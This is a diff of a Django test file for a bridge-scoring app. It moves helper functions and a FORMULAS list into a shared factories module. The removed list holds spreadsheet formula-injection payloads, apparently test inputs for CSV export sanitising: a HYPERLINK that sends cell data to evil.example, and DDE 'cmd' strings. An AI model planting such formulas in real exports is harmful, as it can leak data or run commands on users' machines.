@@ -31,20 +31,12 @@ from duplicate.selectors import standings as st
 from duplicate.selectors import travellers as tv
 from duplicate.selectors.event_rows import event_rows, standings_rows
 from duplicate.services.eventfile import event_import
-from tests.conftest import make_event
 from tests.duplicate.exports_events import pairs_file, team_file
+from tests.factories import FORMULAS, make_event, squash
+from tests.factories import pdf_pages as pdf_text
 
 ROOT = Path(__file__).resolve().parents[2]
 pytestmark = pytest.mark.django_db
-
-
-def pdf_text(data: bytes) -> list[str]:
-    assert data.startswith(b"%PDF-")
-    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]
-
-
-def squash(text: str) -> str:
-    return " ".join(text.split())
 
 
 @pytest.fixture
@@ -400,14 +392,6 @@ def test_csv_of_standings_and_results(event):
     assert fractions  # some figure of this event is not whole: its decimal and exact value differ
 
 
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "-2+3+cmd|' /C calc'!A0",
-    "=1+1",
-    "#N/A",
-]
 LABEL = '=HYPERLINK("x")'  # a pair's number is text of at most 16 characters
 
 
